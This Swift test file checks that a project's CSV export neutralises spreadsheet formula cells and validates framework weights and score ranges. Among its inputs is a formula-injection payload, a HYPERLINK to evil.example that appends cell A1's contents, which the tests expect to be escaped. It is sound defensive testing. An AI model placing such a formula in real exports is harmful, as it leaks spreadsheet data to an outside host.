import Foundation
import Testing

@testable import OITCheck
@testable import OITLoad
@testable import OITModel
@testable import OITRender
@testable import OITSite

/// Bad-input corpus, part 3: spreadsheet formulas in CSV cells, and framework numbers out of range.
@Suite struct BadInputTestsExports {
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"คลิก\"\")\""),
        ("+1+1", "\"'+1+1\""),
        ("-2+3", "\"'-2+3\""),
        ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
        ("\t=1", "\"'\t=1\""),
        ("\r=1", "\"'\r=1\""),
        ("\r\n=1", "\"'\r\n=1\""),
        // A mark after the sign (one character with it for Swift) leaves it a formula sign.
        ("=\u{301}1+1", "\"'=\u{301}1+1\""),
        ("+\u{E48}1", "\"'+\u{E48}1\""),
        ("-\u{200D}1", "\"'-\u{200D}1\""),
        ("@\u{E31}SUM(A1)", "\"'@\u{E31}SUM(A1)\""),
    ])
    func formulaCellsAreNeutralised(_ value: String, _ expected: String) {
        #expect(CSVField.encode(value) == expected)
    }

    @Test func ordinaryCellsAreUnchangedOrQuoted() {
        #expect(CSVField.encode("o12") == "o12")
        #expect(CSVField.encode("แผนการดำเนินงาน") == "แผนการดำเนินงาน")
        #expect(CSVField.encode("") == "")
        #expect(CSVField.encode("a, b") == "\"a, b\"")
        #expect(CSVField.encode("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSVField.encode("two\nlines") == "\"two\nlines\"")
        // A formula sign later in the cell is harmless.
        #expect(CSVField.encode("1+1=2") == "1+1=2")
        #expect(CSVField.encode("https://a.go.th/?q=1") == "https://a.go.th/?q=1")
    }

    /// Issue 18: a quote is doubled, and a comma or line break quoted, whatever mark follows it.
    @Test func quotesWithMarksAreDoubled() {
        #expect(CSVField.encode("a\"\u{301},b") == "\"a\"\"\u{301},b\"")
        #expect(CSVField.encode("\"\u{E48}") == "\"\"\"\u{E48}\"")
        #expect(CSVField.encode("ก,\u{E31}x") == "\"ก,\u{E31}x\"")
        #expect(CSVField.encode("x\n\u{200D}y") == "\"x\n\u{200D}y\"")
        for mark in ["\u{301}", "\u{200D}", "\u{E31}", "\u{E48}"] {
            let value = "ก\"" + mark + ",\"" + mark + "\n"
            #expect(CSVReader.records(CSVField.encode(value) + "\r\n") == [[value]], "\(value.unicodeScalars.map(\.value))")
        }
    }

    // MARK: Framework numbers

    func check(_ edit: (String) throws -> String) throws -> [Message] {
        let url = FrameworkLoader.builtInFolder!.appendingPathComponent("2566.yaml")
        let edited = try edit(try String(contentsOf: url, encoding: .utf8))
        let fixture = try Fixture(["frameworks/2566.yaml": edited])
        let context = LoadContext(root: fixture.content)
        guard let framework = FrameworkLoader.load(fixture.content.appendingPathComponent("frameworks/2566.yaml"), context) else {
            return context.diagnostics.all.map(\.message)
        }
        FrameworkRanges.check(framework, context)
        return context.diagnostics.errors.map(\.message)
    }

    @Test func shippedFrameworksAreInRange() throws {
        let folder = FrameworkLoader.builtInFolder!
        let context = LoadContext(root: folder.deletingLastPathComponent())
        let frameworks = ContentFolder.files(in: folder, withExtension: "yaml").compactMap { FrameworkLoader.load($0, context) }
        #expect(frameworks.count >= 4)
        for framework in frameworks { FrameworkRanges.check(framework, context) }
        #expect(context.diagnostics.errors.isEmpty, "\(context.diagnostics.errors)")
    }

    @Test func weightsSummingToThree() throws {
        let messages = try check {
            try $0.edited(replacing: "weight: 0.30,", with: "weight: 1,").edited(replacing: "weight: 0.40,", with: "weight: 1,")
        }
        #expect(
            messages.contains {
                if case .numberOutOfRange(key: "weight", _, _) = $0 { return true }
                return false
            } == false)
        #expect(messages.contains(.weightsDoNotSumToOne(sum: 3)))
    }

    @Test func hugeWeightIsOutOfRange() throws {
        let messages = try check { try $0.edited(replacing: "weight: 0.40,", with: "weight: 100000000000000000,") }
        #expect(messages.contains(.numberOutOfRange(key: "weight", value: 1e17, range: 0...1)))
    }

    @Test func weightInExponentFormIsNotANumber() throws {
        let messages = try check { try $0.edited(replacing: "weight: 0.40,", with: "weight: 1e17,") }
        #expect(messages.contains(.wrongType(key: "weight", expected: .number)))
    }

    @Test func weightsOffByMoreThanTheTolerance() throws {
        let messages = try check { try $0.edited(replacing: "weight: 0.40,", with: "weight: 0.41,") }
        #expect(
            messages.contains {
                if case .weightsDoNotSumToOne = $0 { return true }
                return false
            })
        // 0.333 × 3 = 0.999 is within the tolerance.
        let thirds = try check {
            try $0.edited(replacing: "weight: 0.30,", with: "weight: 0.333,").edited(
                replacing: "weight: 0.40,", with: "weight: 0.333,")
        }
        #expect(
            !thirds.contains {
                if case .weightsDoNotSumToOne = $0 { return true }
                return false
            })
    }

    @Test func bandAndLabelMinimaOutOfRange() throws {
        let messages = try check {
            try $0.edited(replacing: "{grade: AA, min: 95}", with: "{grade: AA, min: 150}")
                .edited(replacing: "every_tool_min: 85}", with: "every_tool_min: -5}")
        }
        #expect(messages.contains(.numberOutOfRange(key: "min", value: 150, range: 0...100)))
        #expect(messages.contains(.numberOutOfRange(key: "every_tool_min", value: -5, range: 0...100)))
    }

    @Test func invisibleCharactersAreShownEscaped() {
        #expect(Invisible.escaped("o12\u{200B}") == "o12<U+200B>")
        #expect(Invisible.escaped("a\u{00A0}b\u{FEFF}") == "a<U+00A0>b<U+FEFF>")
        #expect(Invisible.escaped("ข้อความ ไทย\n") == "ข้อความ ไทย\n")
        #expect(Message.unknownKey("status\u{200B}", suggestion: "status").text(in: .english).contains("status<U+200B>"))
    }
}
